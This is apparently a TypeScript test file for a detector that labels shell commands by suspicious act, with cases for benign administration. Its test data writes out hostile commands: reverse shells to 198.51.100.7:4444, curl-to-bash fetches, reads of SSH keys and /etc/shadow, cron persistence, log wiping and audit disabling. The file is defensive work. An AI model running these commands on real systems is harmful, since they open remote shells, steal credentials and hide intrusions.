import { ACT_TABLE, writeActs } from './command-acts.ts';

/** The acts of a command line: rare ones by name, known ones with a question mark. */
function actsOf(commandLine: string): readonly string[] {
  const out = new Float32Array(ACT_TABLE.length);
  writeActs(out, 0, commandLine);
  return ACT_TABLE.flatMap(({ name }, place) => {
    if (place === 0 || out[place] === 0) return [];
    return [out[place] === 1 ? name : `${name}?`];
  });
}

test.each([
  ['bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', 'actRemoteShell'],
  ['nc -e /bin/sh 198.51.100.7 4444', 'actRemoteShell'],
  ['socat TCP:198.51.100.7:4444 EXEC:/bin/bash,pty', 'actRemoteShell'],
  ['sh -c curl -s http://198.51.100.7/a | bash', 'actRunsFetched'],
  ['bash -c echo aWQK | base64 -d | sh', 'actRunsFetched'],
  ['/dev/shm/kit --quiet', 'actOddPlace'],
  ['perl -e syscall(319, "x", 1)', 'actMemory'],
  ['cat /home/ann/.ssh/id_ed25519', 'actCredentials'],
  ['cp /etc/shadow /tmp/s', 'actCredentials'],
  ['head -2 /proc/kallsyms', 'actDiscovery'],
  ['chmod 4755 /tmp/sh', 'actRights'],
  ['sudo find / -exec /bin/sh ;', 'actRights'],
  ['sh -c echo "* * * * * curl http://198.51.100.7/a" | crontab -', 'actSchedule'],
  ['usermod -s /bin/bash www-data', 'actLogin'],
  ['tee -a /root/.bashrc', 'actLogin'],
  ['ln -sf /dev/null /root/.bash_history', 'actTraces'],
  ['truncate -s 0 /var/log/wtmp', 'actTraces'],
  ['auditctl -e 0', 'actDefences'],
  ['systemctl stop auditd', 'actDefences'],
  ['unshare -Urm sh -c id', 'actIsolation'],
  ['curl --unix-socket /var/run/docker.sock http://x/containers/json', 'actIsolation'],
  ['cp /usr/bin/nc /root/x/agetty', 'actBorrowedName'],
  ['zip -P secret out.zip notes', 'actExfiltration'],
  ['xmrig -o stratum+tcp://pool.example:3333', 'actHarm'],
])('%s is %s, which ordinary work hardly does', (commandLine, act) => {
  expect(actsOf(commandLine)).toContain(act);
});

test.each([
  ['cat /etc/shadow', ['actCredentials?']],
  ['crontab -l', ['actSchedule?']],
  ['strace -p 12', ['actMemory?']],
  ['truncate -s 0 /var/log/app.log', ['actTraces?']],
  ['systemctl stop nginx', ['actDefences?']],
  ['rsync -a src/ backup:/srv/', ['actExfiltration?']],
  ['/usr/bin/gcc -O2 -o main main.c', []],
  ['python3 manage.py runserver', []],
  ['', []],
])('%s is what administrators and developers do', (commandLine, acts) => {
  expect(actsOf(commandLine)).toEqual(acts);
});

test('the first place counts rare kinds, whichever they are', () => {
  const rareOf = (commandLine: string) => {
    const out = new Float32Array(ACT_TABLE.length);
    writeActs(out, 0, commandLine);
    return out[0];
  };
  expect(rareOf('ls')).toBe(0);
  expect(rareOf('auditctl -D')).toBe(1);
  expect(rareOf('sh -c auditctl -D; truncate -s 0 /var/log/wtmp; insmod x.ko')).toBe(2);
});

test('padding hides neither the beginning nor the end of a long line', () => {
  const padding = 'x '.repeat(50_000);
  expect(actsOf(`auditctl -D ${padding}`)).toContain('actDefences');
  expect(actsOf(`sh -c ${padding}; truncate -s 0 /var/log/wtmp`)).toContain('actTraces');
});
